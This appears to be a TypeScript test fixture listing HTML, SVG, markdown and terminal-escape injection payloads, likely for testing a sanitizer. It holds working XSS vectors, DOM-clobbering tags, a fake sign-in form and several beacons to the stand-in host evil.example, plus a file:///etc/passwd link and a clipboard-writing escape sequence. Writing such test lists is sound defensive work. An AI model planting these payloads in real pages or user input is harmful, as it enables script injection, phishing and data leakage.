/** A call that proves execution: the test exposes this function to every frame. */
const HIT = '__hit()';

const TAGS = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script type=module>${HIT}</script>`,
  `<script>/*<!--*/${HIT}//--></script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src=x onerror="&#95;&#95;hit()">`,
  `<img/src/onerror=${HIT}>`,
  `<img src="javascript:${HIT}">`,
  `<img src=//evil.example/pixel.png>`,
  `<img srcset="//evil.example/a.png 1x" src=x>`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${HIT}"></set></svg>`,
  `<svg><foreignObject><iframe src="javascript:${HIT}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}></svg>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${HIT}">click</math>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src=//evil.example></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<object data="data:text/html,<script>${HIT}</script>"></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=prefetch href=//evil.example/p>`,
  `<style>@import url(//evil.example/x.css);</style>`,
  `<style>body{background:url(//evil.example/b.png)}</style>`,
  `<div style="background:url(//evil.example/s.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">cover</div>`,
  `<form action=//evil.example><input name=password><button>Sign in</button></form>`,
  `<button formaction="javascript:${HIT}">go</button>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}>`,
  `<textarea autofocus onfocus=${HIT}>`,
  `<details open ontoggle=${HIT}>x</details>`,
  `<video src=x onerror=${HIT}></video>`,
  `<video poster=//evil.example/p.png></video>`,
  `<audio src=x onerror=${HIT}></audio>`,
  `<body onload=${HIT}>`,
  `<body onpageshow=${HIT}>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<p onmouseover=${HIT} onclick=${HIT} onpointerenter=${HIT}>hover</p>`,
  `<p contenteditable onblur=${HIT}>x</p>`,
  `<a href="javascript:${HIT}">a</a>`,
  `<a href="&#106;avascript:${HIT}">a</a>`,
  `<a href="java\tscript:${HIT}">a</a>`,
  `<a href=" javascript:${HIT}">a</a>`,
  `<a href="vbscript:${HIT}">a</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">a</a>`,
  `<a href="//evil.example" target=_blank ping=//evil.example/ping>a</a>`,
  `<a id=__hit name=__hit>clobber</a>`,
  `<img name=getElementById><img name=cookie>`,
  `<form id=document><input name=body></form>`,
  `<template><img src=x onerror=${HIT}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${HIT}>`,
  `<title></title><img src=x onerror=${HIT}>`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<![CDATA[><img src=x onerror=${HIT}>]]>`,
  `<?xml-stylesheet href="javascript:${HIT}"?>`,
  `</code></pre><img src=x onerror=${HIT}>`,
  `"><img src=x onerror=${HIT}>`,
  `'-${HIT}-'`,
  `\`-${HIT}-\``,
  `\${${HIT}}`,
  `{{constructor.constructor('${HIT}')()}}`,
  `<dialog open>x<form method=dialog><button>ok</button></form></dialog>`,
  `<portal src=//evil.example></portal>`,
  `<slot onslotchange=${HIT}></slot>`,
  `<x-foo is=script>${HIT}</x-foo>`,
] as const;

const MARKDOWN = [
  `[a](javascript:${HIT})`,
  `[a](JaVaScRiPt:${HIT})`,
  `[a](java&#10;script:${HIT})`,
  `[a](&#x6A;avascript:${HIT})`,
  `[a](data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+)`,
  `[a](vbscript:${HIT})`,
  `[a](file:///etc/passwd)`,
  `[a](//evil.example/x)`,
  `[a]: javascript:${HIT}\n\n[a]`,
  `<javascript:${HIT}>`,
  `![x](javascript:${HIT})`,
  `![x](//evil.example/pixel.png)`,
  `![x](https://evil.example/pixel.png)`,
  `![x](data:image/svg+xml,<svg onload=${HIT}></svg>)`,
  `![x"onerror="${HIT}](x)`,
  `![x](x"onerror="${HIT})`,
  `![x](../../../../api/v1/me/export)`,
  `[x](https://evil.example/ "onclick=${HIT}")`,
  '```html"onclick="__hit()\nx\n```',
  `\`\`\`<img src=x onerror=${HIT}>\nx\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${HIT}> |`,
  `[^1]: <img src=x onerror=${HIT}>\n\nnote[^1]`,
  `# <img src=x onerror=${HIT}>`,
  `* [ ] <input type=image src=x onerror=${HIT}>`,
  `&lt;img src=x onerror=${HIT}&gt;`,
  `\\<img src=x onerror=${HIT}\\>`,
] as const;

const ESC = '\u001b';

/** Control sequences of terminals: colours, titles, links, the clipboard, cursor moves; and text that reads backwards. */
const TERMINAL = [
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}[2J${ESC}[H${ESC}[3J`,
  `${ESC}]0;title\u0007`,
  `${ESC}]8;;javascript:${HIT}\u0007link${ESC}]8;;\u0007`,
  `${ESC}]52;c;ZXZpbA==\u0007`,
  `${ESC}[999;999H${ESC}[6n`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}[?1049h${ESC}[?25l`,
  `${ESC}[31m<img src=x onerror=${HIT}>`,
  `\u009b31m\u009d0;x\u009c`,
  'ok\rFAILED',
  'abc\b\b\bxyz',
  '\u202e}  {esle fi',
  '\u2066\u202e\u2069',
  'a\u200bb\u200dc\ufeffd',
  '\0\u0001\u0007\u007f',
] as const;

/** All payloads; each stands alone. */
export const INJECTIONS: readonly string[] = [...TAGS, ...MARKDOWN, ...TERMINAL];

/** Those that a one-line field such as a name takes. */
export const ONE_LINE: readonly string[] = TAGS.filter((text) => text.length <= 60 && !/[\n\t]/.test(text));

/** An SVG picture that tries everything; harmless only as an image or under a sandbox. */
export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40" onload="${HIT}">
<script>${HIT}</script><script href="//evil.example/x.js"/>
<rect width="60" height="40" fill="teal" onclick="${HIT}"/>
<image href="https://evil.example/pixel.png" width="1" height="1"/>
<a xlink:href="javascript:${HIT}"><text y="20">x</text></a>
<foreignObject width="60" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${HIT}"/></body></foreignObject>
</svg>`;
